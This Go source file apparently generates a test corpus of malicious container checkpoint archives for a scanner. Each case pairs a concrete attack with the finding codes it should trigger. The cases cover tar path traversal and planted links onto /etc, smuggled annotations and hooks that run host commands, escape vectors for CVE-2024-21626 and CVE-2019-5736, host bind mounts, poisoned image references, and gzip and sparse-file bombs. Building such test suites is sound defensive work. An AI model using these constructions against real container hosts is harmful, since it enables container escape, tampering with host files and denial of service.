package attack

import (
	"archive/tar"
	"bytes"
)

// An Attack is one checkpoint.
type Attack struct {
	// Name is that of its file, without .tar.
	Name string
	// Class is the published class of attack that it is one of.
	Class string
	// Gain is what the attacker would have of its restore.
	Gain string
	// Expect are the codes of all findings about the archive, sorted; none for
	// a checkpoint that is healthy.
	Expect []string

	change func(*checkpoint)
}

// Archive makes the attack's file. It is the same each time.
func (a *Attack) Archive() ([]byte, error) {
	c := healthy()
	a.change(c)
	return c.archive()
}

// The classes of attacks.
const (
	none         = "healthy"
	deletion     = "traversal in deleted.files"
	smuggling    = "annotation smuggling"
	poisoning    = "image reference poisoning"
	hostBind     = "bind mount of the host"
	unpacking    = "unpacking of layers"
	hostProgram  = "program run on the host"
	hostFile     = "file written on the host"
	confinement  = "confinement weakened"
	outside      = "process begins outside"
	hostNetwork  = "network.status poisoning"
	exhaustion   = "exhaustion"
	hostResource = "device or namespace of the host"
)

// All are all attacks and, first, healthy checkpoints that look like some.
func All() []Attack {
	var all []Attack
	for _, part := range [][]Attack{harmless, deletions, annotations, images, mounts, unpackings, programs, weakenings} {
		all = append(all, part...)
	}
	return all
}

func annotate(key, value string) func(*checkpoint) {
	return func(c *checkpoint) { in(c.spec, "annotations")[key] = value }
}

func mount(destination, kind, source string) func(*checkpoint) {
	return func(c *checkpoint) {
		add(c.spec, "mounts", object{"destination": destination, "type": kind, "source": source, "options": list{"rprivate"}})
	}
}

func unpack(headers ...tar.Header) func(*checkpoint) {
	return func(c *checkpoint) { c.rootfs = append(c.rootfs, headers...) }
}

func configure(key string, value any) func(*checkpoint) {
	return func(c *checkpoint) { c.config[key] = value }
}

var harmless = []Attack{
	{"healthy", none, "nothing", nil, func(*checkpoint) {}},
	{"healthy-gzip", none, "nothing", nil, func(c *checkpoint) { c.packRootfs = gzipped }},
	{"healthy-links", none, "nothing", nil, unpack(symlink("etc-link", "/etc"), hardLink("data/log2", "data/log"), file("bin/.wh.old"))},
	{"healthy-whiteout", none, "nothing", nil, unpack(tar.Header{Typeflag: tar.TypeChar, Name: "gone"})},
	{"healthy-link-replaced", none, "nothing", nil, unpack(symlink("a", "/etc"), folder("a/"), file("a/passwd"))},
	{"healthy-cri-o", none, "nothing", nil, func(c *checkpoint) {
		annotate("io.kubernetes.cri-o.LogPath", "/var/log/pods/default_web_1/web/0.log")(c)
		annotate("io.kubernetes.cri-o.ImageName", "registry.example/web")(c)
		c.binds = list{object{"source": "/var/lib/kubelet/pods/1/etc-hosts", "destination": "/etc/hosts", "file_type": "file", "permissions": 420}}
	}},
}

var deletions = []Attack{
	{"deleted-traversal", deletion, "files of the host deleted", []string{"A040"}, func(c *checkpoint) { c.deleted = append(c.deleted, "../../../../../../etc/shadow") }},
	{"deleted-traversal-inside", deletion, "files of the host deleted", []string{"A040"}, func(c *checkpoint) { c.deleted = append(c.deleted, "/tmp/../../../etc") }},
	{"deleted-through-link", deletion, "files of the host deleted by way of a planted link", []string{"A056"}, func(c *checkpoint) {
		c.rootfs = append(c.rootfs, symlink("x", "/etc"))
		c.deleted = append(c.deleted, "/x/shadow")
	}},
	{"deleted-root", deletion, "the container's root and all that is mounted in it deleted", []string{"A057"}, func(c *checkpoint) { c.deleted = append(c.deleted, "/") }},
	{"whiteout-of-parent", deletion, "what is beside the container's root deleted", []string{"A058"}, unpack(file(".wh..."))},
}

var annotations = []Attack{
	{"cdi-annotation", smuggling, "devices of the host", []string{"A048"}, annotate("cdi.k8s.io/gpu", "vendor.com/gpu=all")},
	{"nested-annotation", smuggling, "disks of the host", []string{"A048"}, annotate("io.kubernetes.cri-o.Annotations", `{"io.kubernetes.cri-o.Devices":"/dev/sda:/dev/sda:rwm"}`)},
	{"trace-annotation", smuggling, "a file of the host written, by a hook that traces system calls", []string{"A068"}, annotate("io.containers.trace-syscall", "of:/etc/cron.d/x")},
	{"cri-o-devices-annotation", smuggling, "disks of the host", []string{"A048"}, annotate("io.kubernetes.cri-o.Devices", "/dev/sda:/dev/sda:rwm")},
	{"nri-mounts-annotation", smuggling, "files of the host", []string{"A048"}, annotate("mounts.nri.io/container.web", "- source: /\n  destination: /host\n  type: bind")},
	{"criu-config-annotation", smuggling, "a script run as root on the host, by action-script of a configuration of CRIU", []string{"A068"}, annotate("org.criu.config", userdata+"/criu.conf")},
	{"crun-hook-annotation", smuggling, "a file of the host written", []string{"A068"}, annotate("run.oci.hooks.stderr", "/etc/cron.d/x")},
	{"kata-annotation", smuggling, "a program run on the host as hypervisor", []string{"A068"}, annotate("io.katacontainers.config.hypervisor.path", userdata+"/x")},
	{"systemd-annotation", smuggling, "properties of a unit of the host", []string{"A068"}, annotate("org.systemd.property.ExecStopPost", "'/tmp/x'")},
	{"log-path-annotation", smuggling, "a file of the host written with what the container prints", []string{"A062"}, annotate("io.kubernetes.cri-o.LogPath", "/var/log/pods/../../../etc/cron.d/x")},
	{"environment-devices", smuggling, "devices of the host by a hook that reads the environment", []string{"A085"}, func(c *checkpoint) { add(in(c.spec, "process"), "env", "NVIDIA_VISIBLE_DEVICES=all") }},
}

var images = []Attack{
	{"image-poisoned", poisoning, "an image of the attacker's run instead of the one approved", []string{"A066"}, annotate("io.kubernetes.cri-o.ImageName", "evil.example/web")},
	{"image-id-poisoned", poisoning, "an image of the attacker's run instead of the one approved", []string{"A066"}, annotate("io.podman.annotations.checkpoint.rootfsImageID", "beef5b88")},
	{"image-reference-poisoned", poisoning, "an image of the attacker's run instead of the one approved", []string{"A066"}, configure("rootfsImageRef", "evil.example/web@"+digest)},
	{"image-by-tag", poisoning, "whatever the tag means by now is run", []string{"A049"}, func(c *checkpoint) {
		c.config["rootfsImageName"], c.config["RawImageName"] = "docker.io/library/redis:7", "redis:7"
	}},
	{"image-of-folder", poisoning, "files of the host read as an image", []string{"A065"}, configure("rootfsImageName", "dir:/root")},
	{"image-of-transport", poisoning, "an image pulled from anywhere, unchecked", []string{"A065"}, configure("rootfsImageName", "docker://evil.example/x")},
}

var mounts = []Attack{
	{"bind-root", hostBind, "the host's file system", []string{"A081"}, mount("/host", "bind", "/")},
	{"bind-etc", hostBind, "accounts and keys of the host", []string{"A081"}, mount("/mnt", "bind", "/etc")},
	{"bind-engine-socket", hostBind, "containers at will, on the host", []string{"A081"}, mount("/run/x.sock", "bind", "/run/containerd/containerd.sock")},
	{"bind-beside-engine", hostBind, "accounts and keys of the host", []string{"A081"}, mount("/mnt", "bind", "/var/lib/containers/../../../etc")},
	{"bind-data", hostBind, "other people's data on the host", []string{"A045"}, mount("/mnt", "bind", "/srv/data")},
	{"mount-disk", hostBind, "a disk of the host", []string{"A081"}, mount("/mnt", "ext4", "/dev/sda1")},
	{"overlay-of-host", hostBind, "files of the host", []string{"A081"}, func(c *checkpoint) {
		c.config["overlayVolumes"] = list{object{"dest": "/mnt", "source": "/root"}}
	}},
	{"mount-traversal", hostFile, "a mount over a folder of the host", []string{"A046"}, mount("/data/../../../../etc", "tmpfs", "tmpfs")},
	{"mount-proc-elsewhere", confinement, "a program run on the host when something crashes, by an unprotected /x/sys", []string{"A086"}, mount("/x", "proc", "proc")},
	{"mount-over-proc", confinement, "no labels and limits: the runtime writes them to a fake /proc", []string{"A082"}, mount("/proc", "tmpfs", "tmpfs")},
	{"bind-mounts-made", hostFile, "files and folders made on the host", []string{"A055"}, func(c *checkpoint) {
		c.binds = list{object{"source": "/etc/cron.d/x", "destination": "/x", "file_type": "file", "permissions": 511}}
	}},
	{"volume-traversal", hostFile, "files of another volume", []string{"A078"}, func(c *checkpoint) {
		c.config["namedVolumes"] = list{object{"volumeName": "../../x", "dest": "/data"}}
	}},
	{"device-disk", hostResource, "a disk of the host", []string{"A054"}, func(c *checkpoint) {
		in(c.spec, "linux")["devices"] = list{object{"path": "/dev/null", "type": "b", "major": 8, "minor": 0}}
	}},
	{"all-devices", hostResource, "all disks of the host", []string{"A076"}, func(c *checkpoint) {
		in(c.spec, "linux", "resources")["devices"] = list{object{"allow": true, "access": "rwm"}}
	}},
	{"namespace-of-host", hostResource, "the host's mounts", []string{"A064"}, func(c *checkpoint) {
		in(c.spec, "linux")["namespaces"] = list{object{"type": "pid"}, object{"type": "network"}, object{"type": "ipc"}, object{"type": "mount", "path": "/proc/1/ns/mnt"}}
	}},
	{"namespace-of-container", hostResource, "another container's network", []string{"A064"}, configure("netNsCtr", "beef")},
	{"interface-of-host", hostResource, "a network interface of the host", []string{"A054"}, func(c *checkpoint) {
		in(c.spec, "linux")["netDevices"] = object{"eth0": object{}}
	}},
	{"no-namespaces", hostResource, "all of the host", []string{"A051"}, func(c *checkpoint) { delete(in(c.spec, "linux"), "namespaces") }},
	{"host-processes", hostResource, "the host's processes", []string{"A051"}, func(c *checkpoint) {
		in(c.spec, "linux")["namespaces"] = list{object{"type": "network"}, object{"type": "ipc"}, object{"type": "mount"}}
	}},
}

var unpackings = []Attack{
	{"rootfs-traversal", unpacking, "files of the host overwritten", []string{"A041"}, unpack(file("../../../../etc/cron.d/x"))},
	{"rootfs-traversal-gzip", unpacking, "files of the host overwritten", []string{"A041"}, func(c *checkpoint) {
		c.rootfs, c.packRootfs = append(c.rootfs, file("../../../../etc/cron.d/x")), gzipped
	}},
	{"rootfs-through-link", unpacking, "files of the host overwritten by way of a planted link", []string{"A042"}, unpack(symlink("x", "/etc"), file("x/cron.d/x"))},
	{"rootfs-through-two-links", unpacking, "files of the host overwritten by way of planted links", []string{"A042"}, unpack(symlink("x", ".."), symlink("x/y", ".."), file("x/y/etc"))},
	{"rootfs-hard-link", unpacking, "a file of the host read and changed", []string{"A041"}, unpack(hardLink("x", "../../../../etc/shadow"))},
	{"rootfs-hard-link-through-link", unpacking, "a file of the host read and changed", []string{"A042"}, unpack(symlink("x", "/etc"), hardLink("y", "x/shadow"))},
	{"rootfs-disk", unpacking, "a disk of the host", []string{"A043"}, unpack(blockDevice("dev/x", 8, 0))},
	{"rootfs-setuid", unpacking, "root for who runs it on the host", []string{"A044"}, unpack(tar.Header{Typeflag: tar.TypeReg, Name: "tmp/sh", Mode: 0o4755, Size: 1})},
	{"rootfs-capability", unpacking, "privileges for who runs it", []string{"A059"}, unpack(tar.Header{
		Typeflag: tar.TypeReg, Name: "tmp/sh", Mode: 0o755, Size: 1, PAXRecords: map[string]string{"SCHILY.xattr.security.capability": "\x01\x00\x00\x02"},
	})},
	{"rootfs-overlay-redirect", unpacking, "files of the host in place of the container's", []string{"A059"}, unpack(tar.Header{
		Typeflag: tar.TypeDir, Name: "tmp/", Mode: 0o755, PAXRecords: map[string]string{"SCHILY.xattr.trusted.overlay.redirect": "/etc"},
	})},
	{"volume-layer-traversal", unpacking, "files of the host overwritten", []string{"A041"}, func(c *checkpoint) { c.layers[1].files = append(c.layers[1].files, file("../../x")) }},
	{"volume-layer-through-link", unpacking, "files of the host overwritten", []string{"A042"}, func(c *checkpoint) {
		c.layers[1].files = append(c.layers[1].files, symlink("x", "/etc"), file("x/cron.d/x"))
	}},
	{"devshm-layer-disk", unpacking, "a disk of the host", []string{"A043"}, func(c *checkpoint) { c.layers[0].files = append(c.layers[0].files, blockDevice("x", 8, 0)) }},
	{"log-link", unpacking, "a file of the host in the log of the pod", []string{"A003"}, func(c *checkpoint) { c.members = append(c.members, symlink("ctr.log", "/etc/shadow")) }},
	{"bundle-file", unpacking, "a file of its choice in the engine's folder, for an annotation to name", []string{"A013"}, func(c *checkpoint) { c.members = append(c.members, file("criu.conf")) }},
	{"rootfs-sparse", exhaustion, "the disk of the host full", []string{"A008"}, func(c *checkpoint) { c.packRootfs = func([]byte) []byte { return holes() } }},
	{"rootfs-nested-bomb", exhaustion, "memory, disk or time of the host", []string{"A009"}, func(c *checkpoint) {
		c.packRootfs = bomb
	}},
}

// holes is an archive of one file of 512 bytes that claims to be 8 EiB of holes.
// The package that writes it does not know such files: their records have other
// names at first.
func holes() []byte {
	h := file("hole")
	h.Size = 512
	h.PAXRecords = map[string]string{"GNX.sparse.major": "1", "GNX.sparse.minor": "0", "GNX.sparse.name": "hole", "GNX.sparse.realsize": "9223372036854775807"}
	b, _ := pack([]tar.Header{h}, map[string][]byte{"hole": append([]byte("0\n"), make([]byte, 510)...)})
	return bytes.ReplaceAll(b, []byte("GNX.sparse"), []byte("GNU.sparse"))
}

// bomb is an archive of one long file of zeroes, in gzip in gzip: a few kilobytes
// that become 300 MiB.
func bomb([]byte) []byte {
	const part, parts = 1 << 20, 300
	var first bytes.Buffer
	_ = tar.NewWriter(&first).WriteHeader(&tar.Header{Typeflag: tar.TypeReg, Name: "zero", Mode: 0o644, Size: part * parts})
	b := gzipped(first.Bytes())
	b = append(b, bytes.Repeat(gzipped(make([]byte, part)), parts)...)
	return gzipped(append(b, gzipped(make([]byte, 1024))...))
}

var programs = []Attack{
	{"exit-command", hostProgram, "a command run on the host when the container ends", []string{"A060"}, configure("exitCommand", list{"/bin/sh", "-c", "id > /tmp/x", containerID})},
	{"exit-command-runtime", hostProgram, "a program of its choice run on the host as runtime", []string{"A060"}, configure("exitCommand", list{"/usr/bin/podman", "--runtime", userdata + "/x", "container", "cleanup", containerID})},
	{"exit-command-privileged", hostProgram, "a privileged container beside it", []string{"A060"}, configure("exitCommand", list{"/usr/bin/podman", "run", "--privileged", "x", containerID})},
	{"runtime", hostProgram, "a program of its choice run on the host as runtime", []string{"A063"}, configure("runtime", userdata+"/x")},
	{"hook", hostProgram, "a command run on the host as the container begins", []string{"A050"}, func(c *checkpoint) {
		c.spec["hooks"] = object{"createRuntime": list{object{"path": "/bin/sh", "args": list{"sh", "-c", "id"}}}}
	}},
	{"leaky-descriptor", outside, "the host's file system (CVE-2024-21626)", []string{"A080"}, func(c *checkpoint) { in(c.spec, "process")["cwd"] = "/proc/self/fd/8" }},
	{"leaky-descriptor-by-dev", outside, "the host's file system (CVE-2024-21626)", []string{"A080"}, func(c *checkpoint) { in(c.spec, "process")["cwd"] = "/dev/fd/8" }},
	{"runtime-overwritten", outside, "the runtime on the host replaced (CVE-2019-5736)", []string{"A080"}, func(c *checkpoint) { in(c.spec, "process")["args"] = list{"/proc/self/exe"} }},
	{"rootfs-of-host", hostFile, "the host's file system as the container's", []string{"A061"}, configure("rootfs", "/")},
	{"root-path-of-host", hostFile, "the host's file system as the container's", []string{"A061"}, func(c *checkpoint) { c.spec["root"] = object{"path": "/"} }},
	{"log-path", hostFile, "a file of the host written with what the container prints", []string{"A062"}, configure("logPath", "/etc/cron.d/x")},
	{"pid-file", hostFile, "a file of the host written", []string{"A062"}, configure("conmonPidFile", "/etc/x")},
	{"cgroup-traversal", hostFile, "limits and processes of the host's own groups", []string{"A062"}, func(c *checkpoint) { in(c.spec, "linux")["cgroupsPath"] = "/x/../../system.slice/sshd.service" }},
	{"id-traversal", hostFile, "folders of the engine beside the container's", []string{"A053"}, func(c *checkpoint) {
		c.config["id"] = "../../../etc"
		delete(c.config, "exitCommand")
	}},
	{"host-name-line", hostFile, "names of the network turned, in the container's hosts", []string{"A083"}, func(c *checkpoint) { c.spec["hostname"] = "web\n6.6.6.6 registry.example" }},
	{"network-traversal", hostNetwork, "files of the network of others", []string{"A079"}, func(c *checkpoint) { c.network = object{"../../x": c.network["podman"]} }},
	{"network-loopback", hostNetwork, "an address of the host", []string{"A079"}, func(c *checkpoint) {
		in(c.network, "podman", "interfaces", "eth0")["subnets"] = list{object{"ipnet": "127.0.0.1/8"}}
	}},
}

var weakenings = []Attack{
	{"privileged", confinement, "all of the host", []string{"A047"}, configure("privileged", true)},
	{"capability-sys-admin", confinement, "all of the host", []string{"A047"}, func(c *checkpoint) { add(in(c.spec, "process", "capabilities"), "bounding", "CAP_SYS_ADMIN") }},
	{"capability-ambient", confinement, "all of the host", []string{"A047"}, func(c *checkpoint) {
		in(c.spec, "process", "capabilities")["ambient"] = list{"CAP_SYS_MODULE"}
	}},
	{"capability-net-admin", confinement, "the network's settings", []string{"A072"}, func(c *checkpoint) { add(in(c.spec, "process", "capabilities"), "bounding", "CAP_NET_ADMIN") }},
	{"no-seccomp", confinement, "all system calls", []string{"A069"}, func(c *checkpoint) { delete(in(c.spec, "linux"), "seccomp") }},
	{"apparmor-unconfined", confinement, "nothing stops what it breaks out of", []string{"A070"}, func(c *checkpoint) { in(c.spec, "process")["apparmorProfile"] = "unconfined" }},
	{"unmasked", confinement, "memory and keys of the host", []string{"A071"}, func(c *checkpoint) { delete(in(c.spec, "linux"), "maskedPaths") }},
	{"core-pattern", confinement, "a program run on the host when something crashes", []string{"A073"}, func(c *checkpoint) { in(c.spec, "linux")["sysctl"] = object{"kernel.core_pattern": "|/tmp/x"} }},
	{"realtime", exhaustion, "the processors of the host", []string{"A074"}, func(c *checkpoint) {
		add(in(c.spec, "process"), "rlimits", object{"type": "RLIMIT_RTPRIO", "hard": 99, "soft": 99})
	}},
	{"host-root-mapped", confinement, "root of the host inside of the user namespace", []string{"A075"}, func(c *checkpoint) {
		in(c.spec, "linux")["uidMappings"] = list{object{"containerID": 0, "hostID": 0, "size": 65536}}
	}},
	{"shared-mounts", confinement, "mounts over files of the host", []string{"A077"}, func(c *checkpoint) { in(c.spec, "linux")["rootfsPropagation"] = "shared" }},
	{"secret", "secret in a checkpoint", "the secret, for who gets the archive", []string{"A052"}, func(c *checkpoint) { add(in(c.spec, "process"), "env", "DB_PASSWORD=hunter2") }},
}
